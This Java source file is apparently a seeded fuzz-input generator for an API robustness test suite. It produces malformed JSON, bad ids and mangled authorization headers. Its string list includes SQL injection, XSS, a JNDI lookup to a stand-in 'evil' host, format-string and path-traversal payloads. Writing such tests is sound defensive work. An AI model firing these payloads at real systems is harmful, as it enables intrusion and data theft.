package com.emogg.abuse;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Generated inputs for the abuse suite: random variations around a corpus of known-nasty values
 * (broken and oversized JSON, wrong types, Unicode and control characters, SQL and script
 * injection, absurd dates and numbers, malformed ids and headers). Seeded, so a failing case can
 * be replayed with {@code -Dabuse.seed}.
 */
final class NastyInputs {

    static final List<String> STRINGS = List.of(
            "", " ", "\u0000", "\u0000\u0001\u0002\u001f\u007f", "\n\r\t", "'; drop table sessions; --", "\" or 1=1 --",
            "1' union select token_hash from api_tokens --", "<script>alert(1)</script>", "${jndi:ldap://evil/x}", "%s%s%s%n",
            "../../etc/passwd", "\uD83D\uDE00\uD83D\uDE00", "\uFEFF", "\u202Eevil", "\uD800", "a".repeat(300), "null", "true",
            "-1", "9".repeat(40), "1e999", "NaN", "0x10", "\\u0000", "{{7*7}}", "rtsp://", "rtsp://u:p@", "RTSP://x/../..",
            "65ea1530bb50af72b6e3dc1e", "65EA1530BB50AF72B6E3DC1E", "2024-13-45T99:99:99Z", "-292278994-08-17T07:12:55.807Z");

    static final List<String> JSON_VALUES = List.of(
            "null", "true", "false", "0", "-1", "1.5e308", "1e400", "\"\"", "\"x\"", "[]", "[1,2]", "{}", "{\"a\":{}}",
            "\"" + "\\u0000".repeat(10) + "\"", "\"\\ud800\"", "123456789012345678901234567890");

    private final Random random;

    NastyInputs(long seed) {
        this.random = new Random(seed);
    }

    String string() {
        String base = pick(STRINGS);
        return switch (random.nextInt(4)) {
            case 0 -> base;
            case 1 -> base + randomText(random.nextInt(20));
            case 2 -> randomText(random.nextInt(300));
            default -> base.repeat(1 + random.nextInt(3));
        };
    }

    String jsonValue() {
        return switch (random.nextInt(3)) {
            case 0 -> pick(JSON_VALUES);
            case 1 -> quote(string());
            default -> "{\"nested\":" + pick(JSON_VALUES) + "}";
        };
    }

    /** A request body: mostly JSON-shaped, often broken on purpose. */
    String body(List<String> fields) {
        StringBuilder json = new StringBuilder("{");
        int count = random.nextInt(fields.size() + 3);
        for (int i = 0; i < count; i++) {
            if (i > 0) {
                json.append(',');
            }
            String field = random.nextInt(4) == 0 ? string() : pick(fields);
            json.append(quote(field)).append(':').append(jsonValue());
        }
        json.append('}');
        String body = json.toString();
        return switch (random.nextInt(8)) {
            case 0 -> body.substring(0, random.nextInt(body.length() + 1));           // truncated
            case 1 -> "[" + body + "]";                                              // not an object
            case 2 -> "{".repeat(1 + random.nextInt(3000));                          // deeply nested
            case 3 -> randomText(random.nextInt(200));                               // not JSON at all
            case 4 -> body.replace(":", "");                                         // broken syntax
            default -> body;
        };
    }

    String queryValue() {
        return random.nextBoolean() ? string() : Long.toString(random.nextLong());
    }

    String id() {
        return switch (random.nextInt(5)) {
            case 0 -> string();
            case 1 -> Long.toHexString(random.nextLong());
            case 2 -> "0".repeat(random.nextInt(30));
            case 3 -> "zzzzzzzzzzzzzzzzzzzzzzzz";
            default -> String.format("%024x", random.nextLong() & Long.MAX_VALUE);
        };
    }

    String authorization(String validToken) {
        return switch (random.nextInt(6)) {
            case 0 -> "Bearer " + string();
            case 1 -> "Basic " + string();
            case 2 -> validToken.substring(0, random.nextInt(validToken.length()));
            case 3 -> "Bearer " + validToken + string();
            case 4 -> "bearer\t" + validToken;
            default -> string();
        };
    }

    String contentType() {
        return pick(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                "application/json; charset=ebcdic", "application/jso", "*/*", "application/json;;;"));
    }

    boolean chance(int oneIn) {
        return random.nextInt(oneIn) == 0;
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private String randomText(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            int kind = random.nextInt(10);
            text.appendCodePoint(kind < 6 ? 32 + random.nextInt(95) : kind < 8 ? random.nextInt(32) : 0x80 + random.nextInt(0x2FF00));
        }
        return text.toString();
    }

    static String quote(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                quoted.append('\\').append(c);
            } else if (c < 0x20) {
                quoted.append(String.format("\\u%04x", (int) c));
            } else {
                quoted.append(c);
            }
        }
        return quoted.append('"').toString();
    }

    static List<String> list(String... values) {
        return new ArrayList<>(List.of(values));
    }
}
